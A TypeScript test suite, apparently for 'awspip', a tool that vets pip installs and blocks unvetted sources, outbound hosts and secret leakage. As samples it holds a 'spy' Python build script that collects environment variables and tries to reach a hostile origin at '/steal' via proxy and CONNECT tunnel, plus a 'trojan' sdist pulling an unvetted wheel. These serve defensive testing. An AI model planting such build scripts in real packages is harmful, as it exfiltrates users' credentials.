import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { bin, type Sandbox, sandbox, startNode, startProcess, until } from '../helpers/awspip.ts';
import { sdist, wheel } from '../helpers/distributions.ts';
import { type HostileIndex, openHostileIndex } from '../helpers/hostile-index.ts';
import { longTest } from '../helpers/long-form.ts';
import { type PackageIndex, startPackageIndex } from '../helpers/package-index.ts';

let packageIndex: PackageIndex;
let user: Sandbox;
let hostile: HostileIndex;
let project: string;

beforeAll(async () => {
  packageIndex = await startPackageIndex();
  user = await sandbox(packageIndex.environment);
  hostile = await openHostileIndex(user.folder);
  project = user.path('project');
  packageIndex.publish('plain', '1.0', wheel({ name: 'plain', version: '1.0' }));
  write('pyproject.toml', '[project]\nname = "own"\nversion = "1"\ndependencies = ["plain"]\n');
});
afterAll(async () => {
  await hostile.close();
  await user.remove();
  await packageIndex.close();
});

function write(name: string, text: string): void {
  mkdirSync(path.dirname(path.join(project, name)), { recursive: true });
  writeFileSync(path.join(project, name), text);
}

/** Writes a project with its own build backend, so that its build needs no package. */
async function ownProject(name: string, requires: readonly string[] = []): Promise<void> {
  const backend = [
    'import zipfile, os',
    'def get_requires_for_build_wheel(settings=None): return []',
    'def build_wheel(directory, settings=None, metadata_directory=None):',
    `    name = '${name}-1.0-py3-none-any.whl'`,
    '    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:',
    `        archive.writestr('${name}/__init__.py', '')`,
    `        archive.writestr('${name}-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: ${name}\\nVersion: 1.0\\n${requires.map((text) => `Requires-Dist: ${text}\\n`).join('')}')`,
    `        archive.writestr('${name}-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')`,
    `        archive.writestr('${name}-1.0.dist-info/RECORD', '')`,
    '    return name',
  ].join('\n');
  write(`${name}/backend.py`, backend);
  write(
    `${name}/pyproject.toml`,
    `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "${name}"\nversion = "1.0"\ndynamic = ["dependencies"]\n`,
  );
}

const inProject = (argv: readonly string[], extra: Record<string, string> = {}) =>
  startNode([bin, ...argv], { ...user.environment, ...extra }, project).ended;

describe('options and projects that need no vetted source', () => {
  test('trusted hosts and NO_PROXY are ignored: only the vetted repository is reached', async () => {
    write('pip.conf', '[global]\ntrusted-host = evil.example\n');
    const ran = await inProject(['install', '--trusted-host', 'evil.example', '--target', 'harmless', 'plain'], {
      PIP_CONFIG_FILE: path.join(project, 'pip.conf'),
      NO_PROXY: '*',
    });
    expect(ran.exitCode, ran.stderr).toBe(0);
    expect(existsSync(path.join(project, 'harmless', 'plain'))).toBe(true);
    expect(hostile.requests).toEqual([]);
  });

  longTest('constraints and pre-releases in pip.conf are part of the request', async () => {
    for (const version of ['1.0', '2.0', '3.0rc1']) {
      packageIndex.publish('bounded', version, wheel({ name: 'bounded', version }));
    }
    write('bounds.txt', 'bounded<2\n');
    write('bounding.conf', '[install]\nconstraint = bounds.txt\n');
    const bounding = { PIP_CONFIG_FILE: path.join(project, 'bounding.conf') };
    const bounded = await inProject(['install', '--target', 'bounded', 'bounded'], bounding);
    expect([bounded.exitCode, bounded.stdout]).toEqual([0, expect.stringContaining('bounded-1.0')]);
    write('pre.conf', '[install]\npre = true\n');
    const preReleases = { PIP_CONFIG_FILE: path.join(project, 'pre.conf') };
    const pre = await inProject(['install', '--target', 'pre', 'bounded>2'], preReleases);
    expect([pre.exitCode, pre.stdout]).toEqual([0, expect.stringContaining('bounded-3.0rc1')]);
  });

  longTest('own projects are installed, and their dependencies are vetted', async () => {
    await ownProject('inside', ['plain']);
    const ran = await inProject(['install', '--target', 'mine', './inside']);
    expect(ran.exitCode, ran.stderr).toBe(0);
    expect(existsSync(path.join(project, 'mine', 'plain'))).toBe(true);
    const here = await startNode(
      [bin, 'install', '--target', '../mine-too', '.'],
      user.environment,
      path.join(project, 'inside'),
    ).ended;
    expect(here.exitCode, here.stderr).toBe(0);
  });

  test('help is pip’s, and no host is reached', async () => {
    const { exitCode, stdout } = await inProject(['install', '--help', '-i', hostile.origin, 'evil']);
    expect([exitCode, stdout]).toEqual([0, expect.stringContaining('--index-url')]);
    expect(hostile.requests).toEqual([]);
  });
});

test('a requirements file that changes during the wait is checked again', async () => {
  packageIndex.publish('awaited', '1.0', wheel({ name: 'awaited', version: '1.0' }));
  write('changing.txt', 'awaited\n');
  const release = packageIndex.delayRequests('awaited');
  const running = startNode([bin, 'download', '-r', 'changing.txt'], user.environment, project);
  await until('the vetting', () => running.stderr().includes('requesting it') || undefined);
  write('changing.txt', `awaited\n${hostile.files.wheel}\n`);
  release();
  const { exitCode, stderr } = await running.ended;
  expect([exitCode, stderr]).toEqual([64, expect.stringContaining('changing.txt:2: ')]);
});

describe('sources allowed with --awspip-open', () => {
  test('a wheel from an allowed folder, by path and by --find-links, and from no other folder', async () => {
    const open = `--awspip-open=${hostile.files.folder}`;
    const one = await inProject(['install', open, '--target', 'opened', hostile.files.wheel]);
    expect(one.exitCode, one.stderr).toBe(0);
    const links = ['--no-index', '--find-links', hostile.files.folder];
    const two = await inProject(['install', open, '--target', 'linked', '--only-binary', ':all:', ...links, 'evil']);
    expect(two.exitCode, two.stderr).toBe(0);
    const without = await inProject(['install', ...links, 'evil']);
    expect([without.exitCode, without.stderr]).toEqual([64, expect.stringContaining(`\`${open}\``)]);
    const elsewhere = await inProject(['install', open, '--target', 'no', hostile.files.project]);
    expect(elsewhere.exitCode).toBe(64);
  });

  test('a wrong value is an error', async () => {
    const { exitCode, stderr } = await inProject(['install', '--awspip-open=wheels', 'plain']);
    expect([exitCode, stderr]).toEqual([78, expect.stringContaining('`wheels`')]);
  });
});

/** Returns a build script that tries to reach other hosts and records what it found. */
const spy = (report: string, origin: string) => `
import json, os, socket, urllib.parse, urllib.request
def through(proxy, url):
    try: return urllib.request.build_opener(urllib.request.ProxyHandler({'http': proxy})).open(url, timeout=5).status
    except Exception as error: return getattr(error, 'code', str(error))
def tunnel(proxy):
    at = urllib.parse.urlsplit(proxy)
    with socket.create_connection((at.hostname, at.port)) as s:
        s.sendall(b'CONNECT ${origin.replace('http://', '')} HTTP/1.1\\r\\n\\r\\n')
        return s.recv(100).decode()[9:12]
proxy = os.environ.get('PIP_PROXY', '')
found = {'environment': dict(os.environ), 'plain': through(proxy, '${origin}/steal'), 'tunnel': tunnel(proxy)}
open(${JSON.stringify(report)}, 'w').write(json.dumps(found))
`;

test('a build sees no token, only the AWS variables of a setting, and reaches no other host', async () => {
  const report = user.path('spy.json');
  const buildScript = spy(report, hostile.origin);
  packageIndex.publish('spying', '1.0', await sdist({ name: 'spying', version: '1.0', buildScript }));
  const secrets = {
    AWS_SECRET_ACCESS_KEY: 's3cret',
    AWS_PROFILE: 's3cret',
    CODEARTIFACT_AUTH_TOKEN: 's3cret',
    AWSPIP_GITHUB_TOKEN: 's3cret',
    AWS_REGION: 'eu-west-1',
    AWSPIP_KEEP_VARIABLES: 'AWS_REGION',
  };
  const onHold = await user.install(['--target', 'spied', 'spying'], secrets);
  expect(onHold.exitCode).toBe(11); // Its build script uses the network.
  const approved = await user.run(['approve', 'spying==1.0', '--reason', 'to see what it can do']);
  expect(approved.exitCode, approved.stderr).toBe(0);
  const { exitCode, stderr, report: written } = await user.install(['--target', 'spied', 'spying'], secrets);
  expect(exitCode, stderr).toBe(0);
  const { environment, plain, tunnel } = JSON.parse(readFileSync(report, 'utf8'));
  expect(environment.AWS_REGION).toBe('eu-west-1');
  expect(JSON.stringify(environment)).not.toContain('s3cret');
  expect(Object.keys(environment).filter((name) => /^AWS_|TOKEN/.test(name))).toEqual(['AWS_REGION']);
  expect([plain, tunnel]).toEqual([403, '407']); // With the password of pip's proxy, and without.
  expect(written).toMatchObject({ deniedHosts: [hostile.origin.replace('http://', '')] });
  expect(hostile.requests).toEqual([]);
});

describe('installed files are compared with vetted files', () => {
  const mismatch = expect.stringMatching(
    /evil-99\.0-py3-none-any\.whl \(evil 99\.0\) was installed, but it is a file of/,
  );

  test('a vetted sdist whose build adds a file: 10, and the message names the file', async () => {
    const trojan = await sdist({
      name: 'trojan',
      version: '1.0',
      buildScript: `import builtins\nNEED = 'evil @ file://${hostile.files.wheel}'`,
      files: { 'PKG-INFO': 'Metadata-Version: 2.2\nName: trojan\nVersion: 1.0\nDynamic: Requires-Dist\n\n' },
      requires: [`evil @ file://${hostile.files.wheel}`],
    });
    packageIndex.publish('trojan', '1.0', trojan);
    const { exitCode, stderr, report } = await user.install(['--target', 'trojan', 'trojan']);
    expect([exitCode, stderr]).toEqual([10, mismatch]);
    expect(report).toMatchObject({ reason: 'blocked', problems: [{ code: 'unvetted', name: 'evil' }] });
  });

  longTest('also with PIP_DRY_RUN=false', async () => {
    const ran = await user.install(['--target', 'wet', 'trojan'], { PIP_DRY_RUN: 'false' });
    expect([ran.exitCode, ran.stderr]).toEqual([10, mismatch]);
  });

  longTest('also if the user requests a report of pip', async () => {
    const ran = await user.install(['--target', 'again', '--report', 'mine.json', 'trojan']);
    expect([ran.exitCode, ran.stderr]).toEqual([10, mismatch]);
    expect(JSON.parse(readFileSync(user.path('mine.json'), 'utf8')).install).toHaveLength(2);
  });

  test('a cached wheel of an unvetted build with the same name and version is not used', async () => {
    const build = (origin: string) => ({
      name: 'kept',
      version: '1.0',
      files: { 'kept/__init__.py': `origin = '${origin}'\n` },
    });
    const [evil, good] = [await sdist(build('evil')), await sdist(build('good'))];
    const other = await startPackageIndex();
    other.publish('kept', '1.0', evil);
    const pip = [
      '-m',
      'pip',
      'install',
      '-q',
      '--target',
      user.path('before'),
      '-i',
      `${other.origin}/simple/`,
      'kept',
    ];
    const before = await startProcess(
      'python3',
      pip,
      { ...user.environment, PIP_CACHE_DIR: user.path('cache') },
      project,
    ).ended;
    expect(before.exitCode, before.stderr).toBe(0);
    await other.close();
    packageIndex.publish('kept', '1.0', good);
    for (const target of ['first', 'cached']) {
      const ran = await user.install(['--target', target, 'kept'], { PIP_CACHE_DIR: user.path('cache') });
      expect(ran.exitCode, ran.stderr).toBe(0);
      expect(readFileSync(user.path(target, 'kept', '__init__.py'), 'utf8')).toContain('good');
    }
    rmSync(user.path('cache'), { recursive: true });
  });
});
